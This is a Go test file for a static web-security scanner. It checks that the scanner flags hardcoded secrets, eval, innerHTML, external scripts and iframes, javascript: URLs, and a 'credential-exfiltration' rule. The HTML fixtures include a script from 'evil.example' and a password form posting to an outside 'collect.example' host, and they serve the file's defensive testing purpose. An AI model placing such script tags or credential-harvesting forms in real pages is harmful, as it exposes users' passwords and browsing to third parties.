package check

import "testing"

func TestScanFilesLineRules(t *testing.T) {
	files := []SourceFile{
		{Path: "app.js", Content: "const api_key = \"abcdefghijklmnop1234\";\neval(input);\nel.innerHTML = html;"},
	}
	findings := ScanFiles(files)
	if len(findings) != 3 {
		t.Fatalf("expected 3 findings, got %d: %v", len(findings), findings)
	}
	if findings[0].Rule != "secret" || findings[0].Severity != SeverityHigh || findings[0].Line != 1 {
		t.Fatalf("unexpected first finding %+v", findings[0])
	}
	if findings[1].Rule != "dynamic-code" || findings[2].Rule != "unsafe-html" {
		t.Fatalf("findings not ordered by severity: %v", findings)
	}
}

func TestScanFilesDocument(t *testing.T) {
	html := `<html><body>
<button onclick="go()">Go</button>
<script src="https://cdn.jsdelivr.net/npm/x.js"></script>
<script src="https://evil.example/track.js"></script>
<iframe src="https://ads.example/frame"></iframe>
<form action="https://collect.example/login"><input type="PASSWORD" name="p"></form>
<form action="/local"><input type="password"></form>
<a href="javascript:void(0)">x</a>
</body></html>`
	findings := ScanFiles([]SourceFile{{Path: "index.html", Content: html}})

	rules := map[string]int{}
	for _, f := range findings {
		rules[f.Rule]++
	}
	want := map[string]int{
		"inline-handler":          1,
		"external-script":         1,
		"external-iframe":         1,
		"credential-exfiltration": 1,
		"javascript-url":          1,
	}
	for rule, n := range want {
		if rules[rule] != n {
			t.Fatalf("rule %s: expected %d findings, got %d (%v)", rule, n, rules[rule], findings)
		}
	}
	if rules["external-form"] != 0 {
		t.Fatalf("local form should not be flagged: %v", findings)
	}
	if worstSeverity(findings) != SeverityHigh {
		t.Fatalf("expected high severity, got %s", worstSeverity(findings))
	}
}

func TestScanFilesCleanSite(t *testing.T) {
	findings := ScanFiles([]SourceFile{
		{Path: "index.html", Content: `<html><head><link rel="stylesheet" href="style.css"></head><body><h1>Hi</h1></body></html>`},
		{Path: "style.css", Content: "body { color: #333; }"},
	})
	if len(findings) != 0 {
		t.Fatalf("expected no findings, got %v", findings)
	}
	if worstSeverity(findings) != 0 {
		t.Fatal("expected zero severity for no findings")
	}
}

func TestFindingDetailsLimit(t *testing.T) {
	findings := make([]Finding, 5)
	for i := range findings {
		findings[i] = Finding{Rule: "r", Severity: SeverityLow, File: "a.js", Line: i + 1, Message: "m"}
	}
	details := findingDetails(findings, 3)
	if len(details) != 4 {
		t.Fatalf("expected 3 findings plus overflow line, got %v", details)
	}
	if details[3] != "... and 2 more finding(s)" {
		t.Fatalf("unexpected overflow line %q", details[3])
	}
}
